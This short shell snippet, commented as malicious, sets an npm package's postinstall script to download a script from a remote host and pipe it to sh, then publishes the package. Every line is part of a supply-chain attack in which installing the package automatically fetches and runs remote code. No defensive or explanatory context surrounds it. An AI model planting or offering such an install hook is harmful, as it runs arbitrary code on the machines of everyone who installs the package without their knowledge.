# malicious: plants a script npm runs at install
npm pkg set scripts.postinstall='curl -s https://example.net/p | sh'
npm publish
